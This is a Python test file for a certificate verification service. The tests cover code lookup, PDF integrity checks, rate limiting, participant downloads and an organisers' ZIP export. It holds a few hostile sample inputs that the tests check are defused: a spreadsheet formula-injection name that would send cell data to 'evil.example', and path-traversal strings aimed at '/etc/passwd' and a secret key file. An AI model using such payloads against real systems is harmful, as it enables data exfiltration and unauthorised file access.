"""Verification and the holders' files (eventsys/services/verification.py): codes as people
type them, what the page may say (valid, revoked, replaced, unknown), byte-for-byte checks
of an uploaded PDF, the rate limits (per process and through Redis), a participant's
certificates and the organisers' ZIP. Certificates and their PDFs are made here directly,
as the issuer stores them."""

from __future__ import annotations

import csv
import hashlib
import io
import secrets
import zipfile
from datetime import timedelta
from pathlib import Path

import pytest
from flask import current_app
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from pypdf import PdfReader, PdfWriter

from eventsys.extensions import db
from eventsys.models import Certificate, Registration, utcnow
from eventsys.services import certificates, verification
from eventsys.services import registration as reg
from eventsys.services.errors import NotFound, ServiceError, Throttled
from eventsys.services.registration import RegistrationInput
from tests.conftest import base_config, require_redis

# Helpers (the web and mail tests use them too) --------------------------------------------


def small_pdf(text: str = "Certificate") -> bytes:
    """A one-page PDF whose bytes depend on ``text``."""
    writer = PdfWriter()
    writer.add_blank_page(842, 595)
    writer.add_metadata({"/Title": text})
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def participant(event, n: int, **kw) -> Registration:
    out = reg.register(event, RegistrationInput(
        kw.pop("email", f"p{n}@example.org"), kw.pop("name", f"Person {n}"),
        kw.pop("mode", "in_person"), **kw))
    return db.session.get(Registration, out.registration_id)


def store_certificate(event, registration: Registration | None = None, *,
                      kind: str = "completion", version: int = 1, status: str = "valid",
                      pdf: bytes | None = None, person_id: int | None = None,
                      issued_at=None, revoked_at=None, revoked_reason: str | None = None,
                      holder_name: str | None = None,
                      holder_name_native: str | None = None) -> Certificate:
    """A certificate as the issuer stores it: the PDF under FILES_DIR/certificates, its
    SHA-256 and size on the row."""
    name = holder_name or (registration.name if registration else "Speaker")
    pdf = pdf if pdf is not None else small_pdf(f"{name} {kind} {version}")
    stored_name = f"{secrets.token_hex(16)}.pdf"
    directory = Path(current_app.config["FILES_DIR"]) / "certificates"
    directory.mkdir(parents=True, exist_ok=True)
    (directory / stored_name).write_bytes(pdf)
    certificate = Certificate(
        event_id=event.id, kind=kind,
        registration_id=registration.id if registration else None, person_id=person_id,
        version=version, code=certificates.new_code(), holder_name=name,
        holder_name_native=holder_name_native if holder_name_native is not None
        else (registration.name_native if registration else None),
        organisation=registration.organisation_name if registration else None,
        country=registration.country if registration else None, data={},
        stored_name=stored_name, sha256=hashlib.sha256(pdf).hexdigest(), size=len(pdf),
        status=status, issued_at=issued_at or utcnow(), revoked_at=revoked_at,
        revoked_reason=revoked_reason)
    db.session.add(certificate)
    db.session.commit()
    return certificate


def file_of(certificate: Certificate) -> Path:
    return Path(current_app.config["FILES_DIR"]) / "certificates" / certificate.stored_name


@pytest.fixture
def workshop(make_event):
    return make_event("cert-workshop", kind="workshop", title="Science Park Workshop",
                      days_ahead=10, days=10, timezone="Asia/Shanghai")


@pytest.fixture
def ayesha(workshop):
    return participant(workshop, 1, name="Ayesha Siddiqui", name_native="عائشہ صدیقی",
                       organisation_name="NSTP", country="PK")


@pytest.fixture
def valid(workshop, ayesha):
    return store_certificate(workshop, ayesha)


# Looking codes up -----------------------------------------------------------------------------

def test_a_valid_certificate_says_what_is_printed_on_it(workshop, valid):
    found = verification.verify(valid.code)
    assert found.valid and found.status == "valid"
    assert (found.holder_name, found.holder_name_native) == ("Ayesha Siddiqui", "عائشہ صدیقی")
    assert found.event_title == "Science Park Workshop"
    assert found.kind_label == "Certificate of completion"
    assert found.code == valid.code
    assert found.issued_on == utcnow().astimezone(
        __import__("zoneinfo").ZoneInfo("Asia/Shanghai")).date()
    assert found.revoked_on is None and found.replaced_on is None
    # Nothing that is not on the certificate (its SHA-256 is the file's own fingerprint).
    fields = set(verification.Verification.__dataclass_fields__)
    assert not fields & {"email", "registration_id", "person_id", "answers", "stored_name"}
    assert found.sha256 == valid.sha256


def test_codes_are_found_as_people_type_them(valid):
    raw = valid.code.replace("-", "")
    for typed in (valid.code.lower(), f"  {raw} ", " ".join(raw[i:i + 4] for i in range(0, 20, 4)),
                  raw.lower(), valid.code.replace("-", " - ")):
        assert verification.verify(typed).code == valid.code, typed


@settings(max_examples=60, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.data())
def test_any_spacing_and_case_of_a_code_finds_it(valid, data):
    typed = ""
    for char in valid.code.replace("-", ""):
        typed += data.draw(st.sampled_from([char.lower(), char.upper()]))
        typed += data.draw(st.sampled_from(["", "", " ", "-"]))
    assert verification.verify(typed).code == valid.code


@settings(max_examples=150, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(typed=st.one_of(st.text(max_size=200), st.binary(max_size=40).map(
    lambda b: b.decode("latin-1")), st.from_regex(r"[0-9A-Za-z\- ]{0,40}", fullmatch=True)))
def test_anything_else_is_unknown_never_an_error(valid, typed):
    try:
        found = verification.verify(typed)
    except NotFound as exc:
        assert "No certificate has this code" in exc.message
    else:
        assert found.code == valid.code


def test_unknown_and_malformed_codes_get_the_same_answer(valid):
    other = certificates.new_code()
    answers = set()
    for typed in (other, "", "   ", None, "x" * 10_000, "../../etc/passwd", "\x00",
                  valid.code + "X", valid.code[:-1]):
        with pytest.raises(NotFound) as caught:
            verification.verify(typed)
        answers.add(caught.value.message)
    assert len(answers) == 1


def test_a_revoked_certificate_with_reason_and_its_replacement(workshop, ayesha):
    issued = utcnow() - timedelta(days=3)
    old = store_certificate(workshop, ayesha, status="revoked", issued_at=issued,
                            revoked_at=utcnow() - timedelta(days=1),
                            revoked_reason="Name misspelt")
    found = verification.verify(old.code)
    assert not found.valid and found.status == "revoked"
    assert found.revoked_reason == "Name misspelt"
    assert found.revoked_on is not None and found.replaced_on is None

    new = store_certificate(workshop, ayesha, version=2)
    found = verification.verify(old.code)
    assert found.replaced_on == verification.local_date(new.issued_at, workshop.timezone)
    assert new.code not in repr(found)  # the new code is the holder's to give
    assert verification.verify(new.code).valid


def test_a_replacement_of_another_kind_or_holder_is_not_one(workshop, ayesha):
    other = participant(workshop, 2)
    old = store_certificate(workshop, ayesha, status="revoked", revoked_at=utcnow())
    store_certificate(workshop, ayesha, kind="participation")
    store_certificate(workshop, other, version=2)
    assert verification.verify(old.code).replaced_on is None


# Checking a file --------------------------------------------------------------------------------

def test_the_issued_file_matches_byte_for_byte(valid):
    data = file_of(valid).read_bytes()
    check = verification.check_pdf(valid.code, data)
    assert check.matches and check.certificate.code == valid.code
    assert verification.check_pdf(valid.code.lower(), io.BytesIO(data)).matches


def test_a_changed_byte_or_another_pdf_does_not_match(valid):
    data = bytearray(file_of(valid).read_bytes())
    data[-20] ^= 0x01
    assert not verification.check_pdf(valid.code, bytes(data)).matches
    assert not verification.check_pdf(valid.code, small_pdf("Forged")).matches
    appended = file_of(valid).read_bytes() + b"\n%extra"
    assert not verification.check_pdf(valid.code, io.BytesIO(appended)).matches


def test_a_file_too_large_or_not_a_pdf_is_refused(valid):
    big = b"%PDF-1.7\n" + b"0" * verification.MAX_PDF_BYTES
    for data in (big, io.BytesIO(big)):
        with pytest.raises(verification.FileTooLarge) as caught:
            verification.check_pdf(valid.code, data)
        assert caught.value.status_code == 413
    for data in (b"", b"GIF89a....", io.BytesIO(b"PK\x03\x04 a zip"), b"%PD"):
        with pytest.raises(ServiceError, match="not a PDF"):
            verification.check_pdf(valid.code, data)


def test_a_file_for_an_unknown_code(valid):
    with pytest.raises(NotFound):
        verification.check_pdf("nonsense", file_of(valid).read_bytes())


# Rate limits ------------------------------------------------------------------------------------

def test_lookups_are_limited_per_client_then_allowed_again(app, monkeypatch):
    app.config["VERIFY_LOOKUPS_PER_MINUTE"] = 3
    clock = [1000.0]
    monkeypatch.setattr(verification.time, "monotonic", lambda: clock[0])
    for _ in range(3):
        verification.limit("lookup", "203.0.113.1")
    with pytest.raises(Throttled) as caught:
        verification.limit("lookup", "203.0.113.1")
    assert caught.value.status_code == 429 and 1 <= caught.value.retry_after <= 20
    verification.limit("lookup", "203.0.113.2")  # another client
    verification.limit("upload", "203.0.113.1")  # another bucket
    clock[0] += 20  # one lookup's share of the minute
    verification.limit("lookup", "203.0.113.1")
    with pytest.raises(Throttled):
        verification.limit("lookup", "203.0.113.1")


def test_uploads_have_a_smaller_share(app):
    for _ in range(5):
        verification.limit("upload", "198.51.100.7")
    with pytest.raises(Throttled):
        verification.limit("upload", "198.51.100.7")


def test_zero_switches_a_limit_off(app):
    app.config["VERIFY_UPLOADS_PER_MINUTE"] = 0
    for _ in range(50):
        verification.limit("upload", "198.51.100.8")


@pytest.fixture
def redis_apps(database_url, tmp_path):
    """Two apps (as two web processes) sharing one Redis, with a clean slate of keys."""
    import redis

    url = require_redis()
    client = redis.Redis.from_url(url)
    for key in client.scan_iter("eventsys:verify-limit:*"):
        client.delete(key)
    from eventsys import create_app

    apps = [create_app(base_config(tmp_path / f"i{n}", database_url, REDIS_URL=url,
                                   VERIFY_LOOKUPS_PER_MINUTE=4)) for n in range(2)]
    verification._RedisLimits._down_until = 0.0
    yield apps
    for key in client.scan_iter("eventsys:verify-limit:*"):
        client.delete(key)


def test_with_redis_every_process_counts_together(redis_apps):
    first, second = redis_apps
    ip = f"192.0.2.{secrets.randbelow(200) + 1}"
    for n in range(4):
        with (first if n % 2 else second).app_context():
            verification.limit("lookup", ip)
    for app in redis_apps:
        with app.app_context(), pytest.raises(Throttled) as caught:
            verification.limit("lookup", ip)
        assert 1 <= caught.value.retry_after <= 15


def test_without_redis_each_process_limits_alone(database_url, tmp_path):
    from eventsys import create_app

    app = create_app(base_config(tmp_path / "down", database_url,
                                 REDIS_URL="redis://127.0.0.1:1/0",
                                 VERIFY_LOOKUPS_PER_MINUTE=2))
    verification._RedisLimits._down_until = 0.0
    try:
        with app.app_context():
            verification.limit("lookup", "192.0.2.99")
            verification.limit("lookup", "192.0.2.99")
            with pytest.raises(Throttled):
                verification.limit("lookup", "192.0.2.99")
    finally:
        verification._RedisLimits._down_until = 0.0


# A participant's certificates -------------------------------------------------------------------

def test_a_participants_page_lists_the_latest_of_each_kind(workshop, ayesha):
    old = store_certificate(workshop, ayesha, status="revoked", revoked_at=utcnow())
    new = store_certificate(workshop, ayesha, version=2)
    speaker = store_certificate(workshop, ayesha, kind="speaker", status="revoked",
                                revoked_at=utcnow(), revoked_reason="Did not speak")
    other = store_certificate(workshop, participant(workshop, 2))
    listed = verification.certificates_of(ayesha.id)
    assert {c.id for c in listed} == {new.id, speaker.id}
    assert old.id not in {c.id for c in listed} and other.id not in {c.id for c in listed}


def test_a_participant_downloads_only_their_own_valid_intact_file(workshop, ayesha, valid):
    certificate, data = verification.holder_download(ayesha.id, valid.id)
    assert data == file_of(valid).read_bytes() and certificate.id == valid.id
    other = participant(workshop, 2)
    with pytest.raises(NotFound):
        verification.holder_download(other.id, valid.id)
    with pytest.raises(NotFound):
        verification.holder_download(ayesha.id, valid.id + 1000)
    valid.status, valid.revoked_at = "revoked", utcnow()
    db.session.commit()
    with pytest.raises(verification.Gone):
        verification.holder_download(ayesha.id, valid.id)


def test_a_changed_or_missing_file_is_never_handed_out(workshop, ayesha, valid):
    path = file_of(valid)
    path.write_bytes(path.read_bytes().replace(b"Ayesha", b"Ayeshb"))
    with pytest.raises(ServiceError, match="cannot be delivered"):
        verification.holder_download(ayesha.id, valid.id)
    assert verification.read_intact(valid) is None
    path.unlink()
    assert verification.read_intact(valid) is None
    valid.stored_name = "../../secret_key"
    assert verification.read_intact(valid) is None


# The organisers' ZIP ------------------------------------------------------------------------------

def test_file_names_are_ascii_and_safe():
    assert verification.ascii_name("Đorđe Đorđević") == "Dorde-Dordevic"
    assert verification.ascii_name("José  da Silva/..\\") == "Jose-da-Silva"
    assert verification.ascii_name("张伟") == ""
    assert verification.ascii_name("Łukasz Żółć ß") == "Lukasz-Zolc-ss"
    assert len(verification.ascii_name("a" * 500)) == 60


def test_the_zip_holds_each_valid_certificate_once_with_a_manifest(app, workshop):
    people = [participant(workshop, n, name=name) for n, name in enumerate(
        ["Zhang Wei", "Ana Paula Souza", "Zhang Wei", "Đorđe Petrović"], start=1)]
    people.append(participant(workshop, 9, name="张伟", name_native="张伟"))
    issued = [store_certificate(workshop, p) for p in people]
    store_certificate(workshop, people[0], kind="participation")
    revoked = store_certificate(workshop, participant(workshop, 10), status="revoked",
                                revoked_at=utcnow())
    entries = verification.archive(workshop, "completion", actor=None)
    assert len(entries) == len(issued)
    archive = zipfile.ZipFile(io.BytesIO(b"".join(verification.write_archive(entries))))
    assert archive.testzip() is None
    names = [n for n in archive.namelist() if n.endswith(".pdf")]
    assert len(names) == len(set(names)) == len(issued)
    assert all(n.isascii() and "/" not in n and not n.startswith(".") for n in names)
    assert any(n.startswith("Dorde-Petrovic-") for n in names)
    assert any(n.startswith("certificate-") for n in names)  # 张伟: no Latin letters
    manifest = archive.read("certificates.csv").decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(manifest)))
    assert sorted(r["file"] for r in rows) == sorted(names)
    by_code = {c.code: c for c in issued}
    for row in rows:
        certificate = by_code[row["code"]]
        assert row["file"].endswith(f"-{certificate.code}.pdf")
        assert row["sha256"] == certificate.sha256
        assert archive.read(row["file"]) == file_of(certificate).read_bytes()
        PdfReader(io.BytesIO(archive.read(row["file"])))
    assert "张伟" in manifest and revoked.code not in manifest
    assert "PROBLEMS.txt" not in archive.namelist()


def test_the_zip_manifest_never_holds_a_live_formula(app, workshop):
    """A participant who registers as a spreadsheet formula: the organiser's spreadsheet
    shows the text, it does not run it."""
    tricky = participant(workshop, 1, name='=HYPERLINK("http://evil.example/?"&A1,"x")')
    store_certificate(workshop, tricky)
    entries = verification.archive_entries(workshop, "completion")
    archive = zipfile.ZipFile(io.BytesIO(b"".join(verification.write_archive(entries))))
    (row,) = csv.DictReader(io.StringIO(archive.read("certificates.csv").decode("utf-8-sig")))
    assert row["name"] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"


def test_a_damaged_file_is_left_out_and_named(app, workshop):
    good = store_certificate(workshop, participant(workshop, 1))
    bad = store_certificate(workshop, participant(workshop, 2))
    file_of(bad).write_bytes(b"%PDF-1.7 tampered")
    entries = verification.archive_entries(workshop, "completion")
    archive = zipfile.ZipFile(io.BytesIO(b"".join(verification.write_archive(entries))))
    pdfs = [n for n in archive.namelist() if n.endswith(".pdf")]
    assert pdfs == [next(e.filename for e in entries if e.code == good.code)]
    assert bad.code in archive.read("PROBLEMS.txt").decode()


def test_the_zip_is_written_a_certificate_at_a_time(app, workshop):
    for n in range(5):
        store_certificate(workshop, participant(workshop, n), pdf=small_pdf(f"{n}" * 2000))
    pieces = list(verification.write_archive(verification.archive_entries(workshop,
                                                                           "completion")))
    assert len(pieces) == 6 and all(pieces)  # one per file, then the manifest and the end


def test_no_valid_certificate_no_zip(workshop, ayesha):
    store_certificate(workshop, ayesha, status="revoked", revoked_at=utcnow())
    with pytest.raises(NotFound, match="No valid certificates"):
        verification.archive(workshop, "completion", actor=None)
